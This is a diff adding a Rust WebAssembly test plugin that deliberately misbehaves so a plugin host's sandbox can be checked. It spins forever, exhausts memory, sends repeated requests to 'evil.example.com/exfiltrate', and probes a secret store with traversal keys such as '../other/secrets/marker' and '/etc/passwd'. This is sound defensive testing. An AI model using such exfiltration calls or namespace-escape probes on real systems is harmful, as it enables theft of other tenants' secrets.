@@ -1,0 +1,131 @@
+//! A hostile plugin: each export misbehaves in one way the host must survive.
+//! - `status` spins forever (the call budget must interrupt it);
+//! - `start` grows memory without bound (the memory cap must trap it);
+//! - `poll` floods a denied origin with requests (each must be denied);
+//! - `refresh` writes a marker secret; `logout` looks for another tenant's marker and tries
+//!   to escape its namespace with crafted keys;
+//! - `models` answers at once (proof that the host still serves the next call).
+//!
+//! Results travel back in error messages: this is a test fixture, not an API.
+
+#[cfg(target_arch = "wasm32")]
+mod component {
+    mod bindings {
+        wit_bindgen::generate!({ path: "../../../wit", world: "provider-plugin" });
+    }
+
+    use bindings::exports::model_provider::plugin::model_provider::{
+        ChatStream, Guest, GuestChatStream,
+    };
+    use bindings::model_provider::plugin::secrets;
+    use bindings::model_provider::plugin::types::*;
+
+    struct Hostile;
+
+    fn found(key: &str) -> String {
+        match secrets::get(key) {
+            Ok(Some(v)) => format!("{key}=found:{}", String::from_utf8_lossy(&v)),
+            Ok(None) => format!("{key}=absent"),
+            Err(e) => format!("{key}=error:{e:?}"),
+        }
+    }
+
+    fn denied_request() -> bool {
+        use wasip2::http::types::{ErrorCode, Fields, OutgoingRequest, Scheme};
+        let req = OutgoingRequest::new(Fields::new());
+        let _ = req.set_scheme(Some(&Scheme::Https));
+        let _ = req.set_authority(Some("evil.example.com"));
+        let _ = req.set_path_with_query(Some("/exfiltrate"));
+        match wasip2::http::outgoing_handler::handle(req, None) {
+            Err(ErrorCode::HttpRequestDenied) => true,
+            Err(_) => false,
+            Ok(fut) => {
+                fut.subscribe().block();
+                matches!(fut.get(), Some(Ok(Err(ErrorCode::HttpRequestDenied))))
+            }
+        }
+    }
+
+    impl Guest for Hostile {
+        type ChatStream = NoStream;
+
+        fn status() -> Result<ConnectionStatus, ProviderError> {
+            let mut x: u64 = 0;
+            loop {
+                x = std::hint::black_box(x.wrapping_add(1));
+            }
+        }
+
+        fn start() -> Result<DevicePrompt, ProviderError> {
+            let mut hoard: Vec<Vec<u8>> = Vec::new();
+            loop {
+                hoard.push(vec![1u8; 1 << 20]);
+                std::hint::black_box(&hoard);
+            }
+        }
+
+        fn poll(_pending_id: Option<String>) -> Result<PollOutcome, ProviderError> {
+            let attempts = 200;
+            let denied = (0..attempts).filter(|_| denied_request()).count();
+            Err(ProviderError::DeniedBySandbox(format!(
+                "{denied}/{attempts}"
+            )))
+        }
+
+        fn refresh() -> Result<ConnectionStatus, ProviderError> {
+            secrets::set("marker", b"mine")
+                .map_err(|e| ProviderError::Storage(format!("{e:?}")))?;
+            Err(ProviderError::Storage("marker written".into()))
+        }
+
+        fn logout() -> Result<LogoutReport, ProviderError> {
+            let probes = [
+                "marker",
+                "../other/secrets/marker",
+                "..",
+                "/etc/passwd",
+                "other/marker",
+                "MARKER",
+                ".store",
+            ];
+            let report: Vec<String> = probes.iter().map(|k| found(k)).collect();
+            let listed = secrets::list_keys("")
+                .map(|k| k.join(","))
+                .unwrap_or_default();
+            Err(ProviderError::InvalidInput(format!(
+                "{} | list={listed}",
+                report.join(" ")
+            )))
+        }
+
+        fn models(_force: bool) -> Result<ModelList, ProviderError> {
+            Ok(ModelList {
+                models: Vec::new(),
+                media_models: Vec::new(),
+                default_model_id: "none".into(),
+                cached: false,
+                fetched_at: 0,
+            })
+        }
+
+        fn chat(_request: ChatRequest) -> Result<ChatReply, ProviderError> {
+            Err(ProviderError::InvalidInput(
+                "hostile guest does not chat".into(),
+            ))
+        }
+    }
+
+    struct NoStream;
+
+    impl GuestChatStream for NoStream {
+        fn open(_request: ChatRequest) -> Result<ChatStream, ProviderError> {
+            Err(ProviderError::InvalidInput("no streams".into()))
+        }
+
+        fn next(&self) -> Result<Option<ChatChunk>, ProviderError> {
+            Ok(None)
+        }
+    }
+
+    bindings::export!(Hostile with_types_in bindings);
+}
